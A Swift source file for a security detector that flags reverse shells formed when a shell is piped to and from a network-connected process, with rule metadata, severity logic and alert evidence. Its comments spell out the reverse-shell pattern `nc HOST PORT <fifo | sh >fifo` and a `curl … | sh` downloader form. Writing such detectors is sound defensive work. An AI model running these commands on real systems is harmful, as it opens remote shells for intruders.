import Model

/// Class C: siblings in a pipeline that closes through a FIFO: `nc HOST PORT <fifo | sh >fifo`.
struct ReverseShellPipeline: Detector {
  static let manual = DetectorManual(
    rule: "reverse-shell.pipeline", title: "Shell in a pipeline with a network tool", severity: .critical,
    techniques: ["T1059.004", "T1071"],
    description: """
      A shell's standard input is the output of a process that holds an internet connection, directly or through \
      filters such as base64, and its output goes back to that process or to another one that is connected: the pipe \
      graph closes over the network. A tool that relays bytes and feeds a shell is enough without the way back.
      """,
    lookAlikes: "`curl … | sh` has only the first half and a downloader; it is a rule of its own.",
    remediation: "Pause the container; the connected process and the pipes are in the evidence."
  )

  static let interests: Interests = [.exec, .socket, .datagram]

  init() {}

  mutating func observe(_ event: ActivityEvent, in scene: Scene) -> [Alert] {
    let process = event.process
    // Only programs on pipes can close a pipeline: nothing else costs more than this.
    guard process.facts.descriptors.prefix(2).contains(where: { $0.kind == .pipe }) else { return [] }
    if case .exec = event.action, ProgramKind.isShell(process), ProgramKind.readsCommands(process) {
      return Self.close(around: process, in: scene)
    }
    let candidates = scene.takers(of: process) + scene.feeders(of: process)
    var seen: Set<ProcessKey> = []
    for shell in candidates where ProgramKind.isShell(shell) && ProgramKind.readsCommands(shell) {
      guard seen.insert(shell.key).inserted else { continue }
      let alerts = Self.close(around: shell, in: scene)
      if !alerts.isEmpty { return alerts }
    }
    return []
  }

  private static func close(around shell: ProcessRecord, in scene: Scene) -> [Alert] {
    let streams = shell.facts.descriptors
    guard streams.count == 3, streams[0].kind == .pipe else { return [] }
    let feeders = scene.feeders(of: shell)
    let takers = scene.takers(of: shell)
    for feeder in feeders {
      let fromFeeder = NetworkEvidence.foremost(scene.connections(of: feeder))
      for taker in takers {
        let fromTaker = NetworkEvidence.foremost(scene.connections(of: taker))
        // A downloader that the shell's output never comes back to is `curl | sh`, with whatever logs its output.
        guard let socket = fromFeeder ?? fromTaker,
          feeder.key == taker.key || (fromTaker != nil && fromFeeder != nil)
            || (fromTaker != nil && !ProgramKind.isOne(of: ProgramKind.downloaders, taker))
        else { continue }
        return [alert(.critical, shell, socket, feeder, taker)]
      }
      if let socket = fromFeeder, ProgramKind.isOne(of: ProgramKind.relays, feeder) {
        return [alert(.high, shell, socket, feeder, nil)]
      }
    }
    return []
  }

  private static func alert(
    _ severity: Severity, _ shell: ProcessRecord, _ socket: SocketRecord, _ feeder: ProcessRecord,
    _ taker: ProcessRecord?
  ) -> Alert {
    Alert(
      severity, "\(shell.name) stands in a pipeline with \(feeder.name), connected to \(socket.remoteText)", shell,
      network: NetworkEvidence.of(socket),
      evidence: [
        "class": "C, pipeline", "feeder": "\(feeder.name) (pid \(feeder.key.pid))",
        "taker": taker.map { "\($0.name) (pid \($0.key.pid))" } ?? "", "peer": NetworkEvidence.scope(socket.remote),
      ], identity: [socket.remote.description])
  }
}
